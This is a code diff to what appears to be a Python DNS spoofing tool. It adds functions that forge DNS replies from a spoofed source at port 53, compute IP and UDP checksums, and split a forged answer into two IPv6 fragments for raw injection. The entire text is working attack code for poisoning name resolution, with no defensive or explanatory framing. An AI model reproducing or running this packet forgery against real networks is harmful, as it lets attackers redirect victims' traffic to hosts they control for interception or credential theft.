@@ -149,15 +149,32 @@ def prefixed(message):
     return struct.pack(">H", len(message)) + message
 
 
+def checksum(data):
+    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
+    total = (total & 0xffff) + (total >> 16)
+    return struct.pack(">H", ~((total & 0xffff) + (total >> 16)) & 0xffff)
+
+
+def forged_udp(question, port, address):
+    reply = head(question, 0x8180, 1) + question[12:] + record(b"\xc0\x0c", 1, socket.inet_aton(address))
+    return struct.pack(">HHHH", 53, port, 8 + len(reply), 0) + reply
+
+
 def forged(question, source, to, address):
     """Return a packet from port 53 of source that answers the question with the address."""
-    reply = head(question, 0x8180, 1) + question[12:] + record(b"\xc0\x0c", 1, socket.inet_aton(address))
-    udp = struct.pack(">HHHH", 53, to[1], 8 + len(reply), 0) + reply
+    udp = forged_udp(question, to[1], address)
     ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 9, 17, 0, socket.inet_aton(source),
                      socket.inet_aton(to[0]))
-    total = sum(struct.unpack(">10H", ip))
-    total = ~((total & 0xffff) + (total >> 16)) & 0xffff
-    return ip[:10] + struct.pack(">H", total) + ip[12:] + udp
+    return ip[:10] + checksum(ip) + ip[12:] + udp
+
+
+def forged_fragments(question, source, to, address):
+    """Return the same answer as two fragments of IPv6."""
+    udp = forged_udp(question, to[1], address)
+    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to[0])
+    udp = udp[:6] + checksum(ends + struct.pack(">II", len(udp), 17) + udp + b"\0" * (len(udp) % 2)) + udp[8:]
+    return [struct.pack(">IHBB", 6 << 28, 8 + len(part), 44, 64) + ends + struct.pack(">BBHI", 17, 0, at, 1) + part
+            for at, part in ((1, udp[:16]), (16, udp[16:]))]
 
 
 def inject(interface, packet):
